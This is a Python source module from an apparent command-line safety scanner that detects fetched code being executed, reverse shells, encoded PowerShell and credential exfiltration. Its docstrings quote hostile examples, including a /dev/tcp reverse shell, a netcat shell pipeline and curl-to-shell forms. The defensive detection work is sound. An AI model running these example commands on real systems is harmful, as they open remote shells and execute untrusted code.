"""Follow what a command line does with what it fetched: run it, or only read it as data.

A *tainted* value comes from the network (a fetch) or is decoded from an opaque blob. It is
refused when it reaches something that executes: the stdin of a shell or interpreter (any
stage later in the pipeline, a `<` / `<<<` redirect), an interpreter's argument (`sh -c
"$(…)"`, `bash <(…)`, `eval`, `iex (…)`), the program word itself (`$(curl …)`), a variable
later run (`X=$(curl …); eval "$X"`), or a saved file later run, sourced or made executable
(`curl -o x.sh …` … `sh x.sh`, across commands and lines). A cloned repository or extracted
archive is tainted code: building, installing or running from it is refused too.
"""

from __future__ import annotations

import re

from skillgit.safety import hooks, reveal
from skillgit.safety.files import base
from skillgit.safety.findings import Finding
from skillgit.safety.launch import State, run_path, runs_fetched
from skillgit.safety.memory import remember
from skillgit.safety.resolve import Resolved
from skillgit.safety.shell import MAX_DEPTH, Command, Pipeline, parse, walk
from skillgit.safety.taint import source, views, word_risk
from skillgit.safety.vocab import (
    CODE_FLAGS,
    DATA_FLAGS,
    DOWNLOAD_RUN,
    EXFILTRATION,
    OBFUSCATED,
    RAW_SOCKETS,
    SENDERS,
    SHELLS,
    WRAPPERS,
    is_language,
    program_name,
)

_COMPOUND = re.compile(r"[|;&`]|\$\(|<\(")
_STRING_LITERAL = re.compile(r"'([^'\n]{3,})'|\"([^\"\n]{3,})\"|`([^`\n]{3,})`")
# Programs that run a quoted argument as a command line (`ssh h 'env'`, `docker exec c sh -c …`).
_RUN_ARGUMENTS = SHELLS | WRAPPERS.keys() | {"ssh", "docker", "podman", "kubectl", "su",
                                            "runuser", "watch", "entr", "git", "make"}
_SOCKET = re.compile(r"/dev/(?:tcp|udp)/")
_REMOTE = frozenset({"ssh", "docker", "podman", "kubectl", "nerdctl", "oc", "lxc", "multipass",
                     "vagrant", "wsl", "adb"})
# The first words of a command a container or host runs that matter for the screen.
_REMOTE_FIRST = frozenset({"env", "printenv", "set", "export", "declare", "sh", "bash", "cat",
                           "echo", "printf", "python", "python3", "node", "curl", "wget"})
_AWKS = frozenset({"awk", "gawk", "mawk", "nawk", "busybox-awk"})


def analyse(script: list[Pipeline], depth: int = 0, state: State | None = None,
            stdin: str | None = None, reveals: bool = True) -> list[Finding]:
    """The findings of a parsed script; `stdin` is the risk of what its first pipeline reads
    (a `>(…)` process substitution fed by a download); `reveals=False` for the text of an
    argument that no program runs (`rg "a|env"`), where a bare `env` is not a command."""
    state = state or State()
    out: list[Finding] = []
    for pipeline in script:
        upstream, stdin = stdin, None
        reads: str | None = None
        stages = []
        for command in pipeline.commands:
            readings = views(command, state)
            stages.append((command, readings))
            for r in readings:
                out += _command(command, r, state, upstream, reads, pipeline.line, depth)
            produced = source(command, state, readings)
            remember(command, state, pipeline.line, upstream or produced, readings)
            if depth < MAX_DEPTH:
                out += _inner(command, state, depth, upstream, upstream or produced)
            upstream = upstream or produced
            reads = hooks.stronger(hooks.reads(command, state.variables), reads)
        if reveals:
            out += reveal.findings(stages, state)
        out += _remote_shell(stages)
        for command in walk([pipeline]):
            out += _nested(command, depth)
    return out


def _remote_shell(stages: list[tuple[Command, list[Resolved]]]) -> list[Finding]:
    """A shell whose input or output is a network connection: redirected to `/dev/tcp/…`
    (`bash -i >& /dev/tcp/h/p 0>&1`), or in one pipeline with a raw socket (`cat f | sh -i |
    nc h p > f`)."""
    shells = [(c, r) for c, views in stages for r in views if r.names & SHELLS or runs_stdin(r)]
    if any(_SOCKET.match(x.target.literal) for c, _ in shells for x in c.redirects) or (
            shells and any(r.names & RAW_SOCKETS for _, views in stages for r in views)):
        return [Finding(DOWNLOAD_RUN, "a shell connected to the network")]
    return []


def _inner(command: Command, state: State, depth: int, given: str | None,
           output: str | None) -> list[Finding]:
    """Scripts inside a command: a group fed with what the command is `given` on stdin
    (`… | (sh)`), substitutions, `>(…)` fed with its `output`, and here-document bodies (a
    script written to a file is a script all the same)."""
    out: list[Finding] = []
    if command.group is not None:
        out += analyse(command.group, depth + 1, state, stdin=given)
    for word in command.words + [x.target for x in command.redirects]:
        for part in word.parts:
            if part.script is not None:
                feed = output if part.kind == "proc_out" else None
                out += analyse(part.script, depth + 1, state, stdin=feed)
    for redirect in command.redirects:
        if redirect.body:
            out += analyse(parse(redirect.body), depth + 1, state)
    return out


def runs_stdin(r: Resolved) -> bool:
    """Whether the program executes what it reads on stdin (a capitalised name runs too:
    macOS file systems ignore case)."""
    names = r.names | {program_name(n) for n in r.names}
    if names & SHELLS:
        return True
    if names & _AWKS:
        return bool(re.search(r"\bsystem\s*\(|\|\s*(?:getline|&)|\|\s*\"", " ".join(
            r.arg_texts())))
    if not any(is_language(n) for n in names):
        return False
    if "xargs" in r.wrappers:
        return True
    for i, word in enumerate(r.args):
        text = word.literal
        if text in ("-", "/dev/stdin"):
            return True
        if text in DATA_FLAGS or not text.startswith("-"):
            return False  # `-m json.tool`, or a script file: stdin is data
        if text in CODE_FLAGS:
            code = r.args[i + 1].literal if i + 1 < len(r.args) else ""
            return bool(re.search(r"\b(?:exec|eval|compile|system|popen|spawn|execSync|"
                                  r"Function|runpy)\b", code))
    return True


def _runs_args(r: Resolved) -> bool:
    return bool(r.names & SHELLS) or (any(is_language(n) for n in r.names) and not (
        r.args and r.args[0].literal in DATA_FLAGS))


def _command(command: Command, r: Resolved, state: State, upstream: str | None,
             reads: str | None, line: int, depth: int) -> list[Finding]:
    out: list[Finding] = []
    executes = runs_stdin(r)
    if upstream and executes:
        out.append(Finding(upstream, "piped into a shell or interpreter"))
    for redirect in command.redirects:
        if not redirect.op.startswith("<") or not executes:
            continue
        risk = word_risk(redirect.target, state) or state.tainted_files.get(
            base(redirect.target.literal))
        if redirect.op == "<<<" and depth < MAX_DEPTH:  # `at now <<< 'curl … | sh'`
            out += analyse(parse(redirect.target.literal), depth + 1, state)
        if risk:
            out.append(Finding(risk, "redirected into a shell or interpreter"))
    if _runs_args(r):
        for arg in r.args:
            if (risk := word_risk(arg, state)) is not None:
                out.append(Finding(risk, "substituted into a shell or interpreter"))
    program = command.words[r.start] if r.start < len(command.words) and r.names else None
    if program is not None and (risk := word_risk(program, state, backticks=False)) is not None:
        out.append(Finding(risk, "run as a command"))
    if (r.names & {"powershell", "pwsh"}) and any(
            re.fullmatch(r"-e(?:nc(?:odedcommand)?|c)?", a, re.I) for a in r.arg_texts()):
        out.append(Finding(OBFUSCATED, "an encoded PowerShell command"))
    out += runs_fetched(r, state, line) + run_path(command, r, state, line)
    out += hooks.command_findings(command, r, reads)
    if r.names & SENDERS and any(v.text in state.secret_vars for w in r.args
                                 for v in w.variables()):
        out.append(Finding(EXFILTRATION, "credentials sent in a variable"))
    return out


def _remote_command(command: Command, program: str, depth: int) -> list[Finding]:
    """The command a shell, a container or another host is given as plain words (`bash -c
    env`, `cmd /c set`, `docker exec app env`, `ssh host printenv`)."""
    words = command.words
    start = None
    if program in SHELLS:
        start = next((i + 1 for i, w in enumerate(words[:-1]) if w.literal in CODE_FLAGS), None)
    elif program in _REMOTE:
        start = next((i for i, w in enumerate(words[2:], 2) if program_name(
            w.literal) in _REMOTE_FIRST), None)
    if start is None or (words[start].quoted and start == len(words) - 1 and re.search(
            r"\s|[|;&`$]", words[start].literal)):
        return []  # a quoted command line is read by `_nested`
    text = words[start].literal if start == len(words) - 1 else " ".join(
        w.raw for w in words[start:])
    return analyse(parse(text), depth + 1)


def _nested(command: Command, depth: int) -> list[Finding]:
    """Quoted command lines inside arguments (`bash -c '…'`, `ssh host "…"`, `su -c …`), and
    the string literals of code inside them (`python3 -c "os.system('curl … | sh')"`)."""
    if depth >= 3:
        return []
    out: list[Finding] = []
    program = program_name(command.words[0].literal) if command.words else ""
    runs = program in _RUN_ARGUMENTS or is_language(program)
    out += _remote_command(command, program, depth)
    for word in command.words:
        text = word.literal
        if word.quoted and len(text) < 20000 and re.search(r"\s|[|;&`$]", text):
            out += analyse(parse(text), depth + 1, reveals=runs)
            for m in _STRING_LITERAL.finditer(text):
                inner = m.group(1) or m.group(2) or m.group(3) or ""
                if _COMPOUND.search(inner):  # one plain command in code is not screened
                    out += analyse(parse(inner), depth + 1, reveals=runs)
    return out
